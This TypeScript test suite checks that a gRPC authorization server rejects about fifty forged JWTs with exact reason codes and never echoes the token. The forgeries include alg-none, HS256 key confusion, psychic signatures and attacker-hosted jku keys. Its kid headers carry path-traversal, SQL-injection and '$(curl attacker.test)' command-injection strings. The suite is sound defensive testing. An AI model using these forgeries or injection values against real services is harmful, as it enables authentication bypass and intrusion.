import * as grpc from "@grpc/grpc-js";
import {
  CompactEncrypt,
  CompactSign,
  type CryptoKey,
  exportJWK,
  exportSPKI,
  FlattenedSign,
  generateKeyPair,
  importJWK,
  type JWTHeaderParameters,
  SignJWT,
} from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ReasonCode } from "../../src/access/reasons.js";
import { buildCheckRequest } from "../../src/cli/check.js";
import { ServingStatus } from "../../src/transport/health.js";
import { fragments } from "../helpers/secret-fragments.js";
import { startTestServer, type TestServer } from "../helpers/server.js";

/**
 * So that token-handling defects do not come back: JWT attacks against the real gRPC server,
 * each with the exact reason code it must be refused with, and a response that never echoes the
 * token.
 * The server trusts the dev key (ES256) with the demo policy: issuer, audience, algorithms
 * [ES256, RS256, EdDSA], 30 s skew, token lifetime at most 1 day, cookie rg_session.
 */

const ISS = "https://riskgate.dev/demo";
const AUD = "demo-api";
const PROTECTED = "/v1/items";

let s: TestServer;
/** The dev key: the one key the server trusts. */
let trusted: { privateKey: CryptoKey; kid: string; publicPem: string; publicJwkJson: string };
/** A key the server has never seen. */
let attacker: { privateKey: CryptoKey; publicJwk: Record<string, unknown> };

const nowSec = () => Math.floor(Date.now() / 1000);
const enc = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");

/** Claims of a good token for a pro caller; `undefined` in `over` removes a claim. */
function claims(over: Record<string, unknown> = {}): Record<string, unknown> {
  const iat = nowSec();
  const all: Record<string, unknown> = {
    iss: ISS,
    aud: AUD,
    sub: "mallory",
    tier: "pro",
    amr: ["mfa"],
    iat,
    exp: iat + 600,
    ...over,
  };
  for (const [k, v] of Object.entries(all)) if (v === undefined) delete all[k];
  return all;
}

/** Signs any claims set (even ones SignJWT would refuse) with the trusted key. */
function signTrusted(
  payload: Record<string, unknown> | string,
  header: Partial<JWTHeaderParameters> & Record<string, unknown> = {},
  options: Parameters<CompactSign["sign"]>[1] = {},
): Promise<string> {
  const bytes = new TextEncoder().encode(
    typeof payload === "string" ? payload : JSON.stringify(payload),
  );
  return new CompactSign(bytes)
    .setProtectedHeader({ alg: "ES256", kid: trusted.kid, typ: "JWT", ...header })
    .sign(trusted.privateKey, options);
}

function signAttacker(header: Partial<JWTHeaderParameters> = {}, over = {}): Promise<string> {
  return new SignJWT(claims(over))
    .setProtectedHeader({ alg: "ES256", kid: "attacker", ...header })
    .sign(attacker.privateKey);
}

const hmac = (secret: string, header: Record<string, unknown> = {}) =>
  new SignJWT(claims())
    .setProtectedHeader({ alg: "HS256", kid: trusted.kid, ...header })
    .sign(new TextEncoder().encode(secret));

/** A valid token spelled another way: same bytes, different text. */
async function respelled(change: (token: string) => string): Promise<string> {
  for (let i = 0; i < 32; i++) {
    const token = await signTrusted(claims({ pad: "x".repeat(i) }));
    const other = change(token);
    if (other !== token) return other;
  }
  throw new Error("no token changes under this spelling");
}

const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

interface Attack {
  readonly name: string;
  readonly token: () => Promise<string>;
  readonly reason: ReasonCode | "license.tier_unknown";
  /** Where the token travels (bearer by default). */
  readonly via?: "bearer" | "cookie";
}

const attacks: Attack[] = [
  // algorithm confusion
  {
    name: "alg none",
    token: async () => `${enc({ alg: "none", typ: "JWT" })}.${enc(claims())}.`,
    reason: "identity.algorithm_not_allowed",
  },
  {
    name: "alg None with the trusted kid and a signature",
    token: async () => `${enc({ alg: "None", kid: trusted.kid })}.${enc(claims())}.AAAA`,
    reason: "identity.algorithm_not_allowed",
  },
  {
    name: "alg none in the cookie",
    token: async () => `${enc({ alg: "none" })}.${enc(claims())}.`,
    reason: "identity.algorithm_not_allowed",
    via: "cookie",
  },
  {
    name: "alg missing",
    token: async () => `${enc({ typ: "JWT" })}.${enc(claims())}.AAAA`,
    reason: "identity.algorithm_not_allowed",
  },
  {
    name: "HS256 keyed with the public key PEM",
    token: () => hmac(trusted.publicPem),
    reason: "identity.algorithm_not_allowed",
  },
  {
    name: "HS256 keyed with the public JWK JSON",
    token: () => hmac(trusted.publicJwkJson),
    reason: "identity.algorithm_not_allowed",
  },
  {
    name: "an asymmetric alg the policy does not list (ES384)",
    token: async () => {
      const k = await generateKeyPair("ES384");
      return new SignJWT(claims())
        .setProtectedHeader({ alg: "ES384", kid: trusted.kid })
        .sign(k.privateKey);
    },
    reason: "identity.algorithm_not_allowed",
  },
  // key selection
  {
    name: "kid path traversal",
    token: () => signAttacker({ kid: "../../../../../../dev/null" }),
    reason: "identity.unknown_key",
  },
  {
    name: "kid SQL injection",
    token: () => signAttacker({ kid: "x' UNION SELECT 'secret' --" }),
    reason: "identity.unknown_key",
  },
  {
    name: "kid command injection",
    token: () => signAttacker({ kid: "$(curl attacker.test)|id;" }),
    reason: "identity.unknown_key",
  },
  {
    name: "jku pointing at the attacker's key set",
    token: () => signAttacker({ jku: "https://attacker.test/jwks.json" }),
    reason: "identity.unknown_key",
  },
  {
    name: "jku with the trusted kid",
    token: () => signAttacker({ kid: trusted.kid, jku: "https://attacker.test/jwks.json" }),
    reason: "identity.bad_signature",
  },
  {
    name: "x5u with the trusted kid",
    token: () => signAttacker({ kid: trusted.kid, x5u: "https://attacker.test/cert.pem" }),
    reason: "identity.bad_signature",
  },
  {
    name: "embedded jwk (the attacker's) with the trusted kid",
    token: () => signAttacker({ kid: trusted.kid, jwk: attacker.publicJwk as never }),
    reason: "identity.bad_signature",
  },
  {
    name: "embedded jwk without kid",
    token: () => signAttacker({ kid: undefined, jwk: attacker.publicJwk as never }),
    reason: "identity.bad_signature",
  },
  {
    name: "embedded x5c chain",
    token: () => signAttacker({ kid: trusted.kid, x5c: ["MIIBszCCAVmgAwIBAgIUQ=="] }),
    reason: "identity.bad_signature",
  },
  // signatures
  {
    name: "psychic signature (ECDSA r = s = 0)",
    token: async () =>
      `${enc({ alg: "ES256", kid: trusted.kid })}.${enc(claims())}.${Buffer.alloc(64).toString("base64url")}`,
    reason: "identity.bad_signature",
  },
  {
    name: "psychic signature, DER-encoded r = s = 0",
    token: async () =>
      `${enc({ alg: "ES256", kid: trusted.kid })}.${enc(claims())}.${Buffer.from([0x30, 6, 2, 1, 0, 2, 1, 0]).toString("base64url")}`,
    reason: "identity.bad_signature",
  },
  {
    name: "signature stripped",
    token: async () => {
      const t = await signTrusted(claims());
      return t.slice(0, t.lastIndexOf(".") + 1);
    },
    reason: "identity.bad_signature",
  },
  {
    name: "payload swapped under a valid signature",
    token: async () => {
      const [h, , sig] = (await signTrusted(claims())).split(".");
      return `${h}.${enc(claims({ tier: "enterprise" }))}.${sig}`;
    },
    reason: "identity.bad_signature",
  },
  {
    name: "signed by another key under the trusted kid",
    token: () => signAttacker({ kid: trusted.kid }),
    reason: "identity.bad_signature",
  },
  // other formats
  {
    name: "JWE (compact, dir + A256GCM)",
    token: () =>
      new CompactEncrypt(new TextEncoder().encode(JSON.stringify(claims())))
        .setProtectedHeader({ alg: "dir", enc: "A256GCM", kid: trusted.kid })
        .encrypt(new Uint8Array(32)),
    reason: "identity.malformed",
  },
  {
    name: "nested JWT (cty JWT, a signed JWT as the payload)",
    token: async () =>
      signTrusted(await signTrusted(claims()), { cty: "JWT", typ: undefined as never }),
    reason: "identity.malformed",
  },
  {
    name: "unsecured inner JWT wrapped in a signed one",
    token: () => signTrusted(`${enc({ alg: "none" })}.${enc(claims())}.`, { cty: "JWT" }),
    reason: "identity.malformed",
  },
  {
    name: "JSON serialization instead of compact",
    token: async () => {
      const [protectedHeader, payload, signature] = (await signTrusted(claims())).split(".");
      return JSON.stringify({ protected: protectedHeader, payload, signature });
    },
    reason: "identity.malformed",
  },
  {
    name: "larger than 8 KiB",
    token: () => signTrusted(claims({ pad: "x".repeat(9000) })),
    reason: "identity.malformed",
  },
  // one token, many spellings
  {
    name: "signature in standard base64 (+ /)",
    token: () =>
      respelled((t) => {
        const at = t.lastIndexOf(".");
        return `${t.slice(0, at)}${t.slice(at).replaceAll("-", "+").replaceAll("_", "/")}`;
      }),
    reason: "identity.malformed",
  },
  {
    name: "signature padded with =",
    token: () => respelled((t) => `${t}==`),
    reason: "identity.malformed",
  },
  {
    name: "non-canonical trailing bits in the signature",
    token: () =>
      respelled((t) => {
        const last = ALPHABET.indexOf(t.charAt(t.length - 1));
        return `${t.slice(0, -1)}${ALPHABET.charAt(last | 1)}`;
      }),
    reason: "identity.malformed",
  },
  {
    name: "header segment padded with =",
    token: () =>
      respelled((t) => {
        const [h, p, sig] = t.split(".") as [string, string, string];
        return h.length % 4 === 0 ? t : `${h}${"=".repeat(4 - (h.length % 4))}.${p}.${sig}`;
      }),
    reason: "identity.malformed",
  },
  // header extensions
  {
    name: "crit naming an unknown extension",
    token: () => signTrusted(claims(), { crit: ["exp"], exp: 1 }, { crit: { exp: true } }),
    reason: "identity.malformed",
  },
  {
    name: "crit b64: false (unencoded payload)",
    token: async () => {
      const jws = await new FlattenedSign(new TextEncoder().encode(JSON.stringify(claims())))
        .setProtectedHeader({ alg: "ES256", kid: trusted.kid, crit: ["b64"], b64: false })
        .sign(trusted.privateKey);
      return `${jws.protected}.${jws.payload}.${jws.signature}`;
    },
    reason: "identity.malformed",
  },
  // times
  {
    name: "iat in the future",
    token: () => signTrusted(claims({ iat: nowSec() + 3600, exp: nowSec() + 4000 })),
    reason: "identity.not_yet_valid",
  },
  {
    name: "exp: 1e300 (overlong lifetime)",
    token: () => signTrusted(claims({ exp: 1e300 })),
    reason: "identity.lifetime_too_long",
  },
  {
    name: "a year-long token",
    token: () => signTrusted(claims({ exp: nowSec() + 365 * 86_400 })),
    reason: "identity.lifetime_too_long",
  },
  {
    name: "a long lifetime without iat",
    token: () => signTrusted(claims({ iat: undefined, exp: nowSec() + 30 * 86_400 })),
    reason: "identity.lifetime_too_long",
  },
  {
    name: "exp: 1e400 (Infinity once parsed)",
    token: () => signTrusted(JSON.stringify(claims({ exp: 0 })).replace('"exp":0', '"exp":1e400')),
    reason: "identity.lifetime_too_long",
  },
  // every claim failure with a valid signature
  {
    name: "exp in the past",
    token: () => signTrusted(claims({ iat: nowSec() - 3600, exp: nowSec() - 120 })),
    reason: "identity.expired",
  },
  {
    name: "exp missing",
    token: () => signTrusted(claims({ exp: undefined })),
    reason: "identity.claims_invalid",
  },
  {
    name: "exp a string",
    token: () => signTrusted(claims({ exp: String(nowSec() + 600) })),
    reason: "identity.claims_invalid",
  },
  {
    name: "nbf in the future",
    token: () => signTrusted(claims({ nbf: nowSec() + 3600, exp: nowSec() + 4000 })),
    reason: "identity.not_yet_valid",
  },
  {
    name: "nbf a string",
    token: () => signTrusted(claims({ nbf: "now" })),
    reason: "identity.claims_invalid",
  },
  {
    name: "iat a string",
    token: () => signTrusted(claims({ iat: "yesterday" })),
    reason: "identity.claims_invalid",
  },
  {
    name: "iss of another issuer",
    token: () => signTrusted(claims({ iss: "https://attacker.test" })),
    reason: "identity.issuer_mismatch",
  },
  {
    name: "iss missing",
    token: () => signTrusted(claims({ iss: undefined })),
    reason: "identity.issuer_mismatch",
  },
  {
    name: "iss as a list holding the issuer",
    token: () => signTrusted(claims({ iss: [ISS] })),
    reason: "identity.issuer_mismatch",
  },
  {
    name: "aud of another API",
    token: () => signTrusted(claims({ aud: "other-api" })),
    reason: "identity.audience_mismatch",
  },
  {
    name: "aud missing",
    token: () => signTrusted(claims({ aud: undefined })),
    reason: "identity.audience_mismatch",
  },
  {
    name: "aud a number",
    token: () => signTrusted(claims({ aud: 42 })),
    reason: "identity.audience_mismatch",
  },
  {
    name: "sub missing",
    token: () => signTrusted(claims({ sub: undefined })),
    reason: "identity.claims_invalid",
  },
  {
    name: "sub an object",
    token: () => signTrusted(claims({ sub: { id: "admin" } })),
    reason: "identity.claims_invalid",
  },
  {
    name: "sub empty",
    token: () => signTrusted(claims({ sub: "" })),
    reason: "identity.claims_invalid",
  },
  {
    name: "tier a list (not a tier name)",
    token: () => signTrusted(claims({ tier: ["enterprise"] })),
    reason: "license.tier_unknown",
  },
  {
    name: "payload a JSON array",
    token: () => signTrusted("[1,2,3]"),
    reason: "identity.malformed",
  },
  {
    name: "payload not JSON",
    token: () => signTrusted("not json"),
    reason: "identity.malformed",
  },
];

function checkRequest(token: string, via: "bearer" | "cookie" = "bearer") {
  return buildCheckRequest({
    method: "GET",
    path: PROTECTED,
    host: "api.example.com",
    ip: "198.51.100.23",
    headers: via === "cookie" ? { cookie: `rg_session=${token}` } : {},
    ...(via === "bearer" ? { token } : {}),
  });
}

describe("JWT attacks over the wire", () => {
  beforeAll(async () => {
    s = await startTestServer();
    const jwk = s.devKeys.publicJwks.keys[0] as Record<string, unknown>;
    const publicKey = await importJWK(jwk as never, "ES256", { extractable: true });
    trusted = {
      privateKey: s.devKeys.privateKey,
      kid: s.devKeys.kid,
      publicPem: await exportSPKI(publicKey as CryptoKey),
      publicJwkJson: JSON.stringify(jwk),
    };
    const pair = await generateKeyPair("ES256", { extractable: true });
    attacker = {
      privateKey: pair.privateKey,
      publicJwk: { ...(await exportJWK(pair.publicKey)), kid: trusted.kid },
    };
  });
  afterAll(() => s.stop());

  it("a good token is allowed (the control case)", async () => {
    const res = await s.client.check(checkRequest(await signTrusted(claims())));
    expect(res.status.code).toBe(grpc.status.OK);
  });

  for (const attack of attacks) {
    it(`${attack.name} -> ${attack.reason}`, async () => {
      const token = await attack.token();
      const logsBefore = s.logs.length;
      const res = await s.client.check(checkRequest(token, attack.via));
      expect(res.status.code).not.toBe(grpc.status.OK);
      expect(res.ok_response ?? undefined).toBeUndefined();
      const body = JSON.parse(res.denied_response?.body ?? "{}") as {
        decision?: string;
        reasons?: { code: string }[];
      };
      expect(body.decision).toBe("deny");
      expect(body.reasons?.map((r) => r.code)).toEqual([attack.reason]);
      // neither the response (status, headers, body) nor a log line holds the token
      const wire = JSON.stringify(res);
      const logged = JSON.stringify(s.logs.slice(logsBefore));
      for (const piece of fragments(token)) {
        expect(wire).not.toContain(piece);
        expect(logged).not.toContain(piece);
      }
    });
  }

  it("leaves the server SERVING", async () => {
    expect(await s.client.health()).toBe(ServingStatus.SERVING);
  });
});
